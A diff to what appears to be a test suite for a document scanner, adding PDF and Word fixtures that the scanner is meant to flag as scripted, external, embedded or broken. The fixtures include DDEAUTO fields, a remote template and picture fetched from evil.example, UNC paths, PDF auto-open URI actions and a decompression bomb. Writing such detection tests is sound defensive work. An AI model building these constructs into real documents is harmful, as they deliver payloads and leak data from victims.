@@ -32,6 +32,11 @@ const DOC = "application/msword";
 const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
 const relation = (type: string, target: string) =>
   `<Relationships><Relationship Id="a" TargetMode='External' Type="http://x/relationships/${type}" Target="${target}"/></Relationships>`;
+const packed = (type: string) => packedObjects("5 0 << /JS (x) >>").replace("/Type /ObjStm", type);
+const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
+const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const withBody = (body: string) =>
+  docx([{ name: "word/header1.xml", text: `<w:hdr><w:p>${body}</w:p></w:hdr>` }]);
 const filler = Buffer.from("many hands sew a quilt ".repeat(7100));
 
 describe("a document", () => {
@@ -88,6 +93,88 @@ describe("a document", () => {
       "an archive within a PDF",
       pdf({ objects: zip([{ name: "a.exe", text: "MZ" }]).toString("latin1") }),
       "embedded",
+    ],
+    [
+      "a PDF with a link to a page",
+      pdf({
+        objects: "7 0 obj << /Subtype /Link /A << /S /URI /URI (https://lakewood.example/) >> >> endobj\n",
+      }),
+      "application/pdf",
+    ],
+    ...(
+      [
+        ["packed as a type with a comment", packed("/Type%x\n/ObjStm"), "script"],
+        ["packed as a type elsewhere", `8 0 obj\n/ObjStm\nendobj\n${packed("/Type 8 0 R")}`, "broken"],
+        ["packed after a CR alone", packed("/Type /ObjStm").replace("stream\n", "stream\r"), "script"],
+        ["packed without a type", packed(""), "broken"],
+        ["packed in a comment", `% ${packed("/Type /ObjStm").replaceAll("\n", " ")}`, "broken"],
+        [
+          "replaced by a later one",
+          "7 0 obj << /S /GoToR /F (x.pdf) >> endobj\n7 0 obj << >> endobj\n",
+          "external",
+        ],
+        ["that sends a form", "7 0 obj << /S /SubmitForm >> endobj\n", "external"],
+        ["that plays", "7 0 obj << /S /Rendition >> endobj\n", "script"],
+        ["on another machine", "7 0 obj << /F (\\\\\\\\evil\\\\x.pdf) >> endobj\n", "external"],
+        ["from an address", "7 0 obj << /FS /URL /F (x) >> endobj\n", "external"],
+        [
+          "in a stream elsewhere",
+          pdfStream("/F (x.bin) /FFilter /FlateDecode", Buffer.from("x")),
+          "external",
+        ],
+        [
+          "that opens a page",
+          "7 0 obj << /OpenAction << /S /URI /URI (https://x.example) >> >> endobj\n",
+          "external",
+        ],
+        [
+          "that opens a page later",
+          "7 0 obj << /AA << /O 8 0 R >> >> endobj\n8 0 obj << /S /URI >> endobj\n",
+          "external",
+        ],
+        [
+          "that is large",
+          pdfStream("/Filter /FlateDecode", deflateSync(Buffer.alloc(300_000_000))),
+          "broken",
+        ],
+      ] as const
+    ).map(
+      ([name, objects, fault]) =>
+        [`a PDF with something ${name}`, pdf({ objects }), fault] as [string, Buffer, string],
+    ),
+    ...(
+      [
+        ["DDE field", run("DD") + run("EAUTO c:\\x"), "external"],
+        ["picture elsewhere", run('INCLUDEPICTURE "http://evil.example/x.png"'), "external"],
+        ["field computed by another", mark("begin") + run("QUOTE 68") + mark("end"), "external"],
+        ["link to a machine", run('HYPERLINK "\\\\evil\\x"'), "external"],
+        ["link to a page", run('HYPERLINK "https://lakewood.example/"'), DOCX],
+        ["number of a page", run("PAGE"), DOCX],
+      ] as const
+    ).map(
+      ([name, text, fault]) =>
+        [`a document with a ${name}`, withBody(`${mark("begin")}${text}${mark("end")}`), fault] as [
+          string,
+          Buffer,
+          string,
+        ],
+    ),
+    ["a document with a simple DDE field", withBody('<w:fldSimple w:instr="DDE x"/>'), "external"],
+    ["a document with another in it", withBody('<w:altChunk r:id="a"/>'), "embedded"],
+    [
+      "a document whose template is behind a sign",
+      docx([
+        {
+          name: "word/_rels/settings.xml.rels",
+          text: `<Relationships><Relationship Id=">" Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/></Relationships>`,
+        },
+      ]),
+      "external",
+    ],
+    [
+      "a document with a list of 8 MB",
+      docx([{ name: "word/_rels/a.xml.rels", text: "<Relationship ".repeat(600_000) }]),
+      "broken",
     ],
     ["a document of Word", docx(), DOCX],
     ["a document with macros", docx([{ name: "word/vbaProject.bin", text: "x" }]), "macros"],
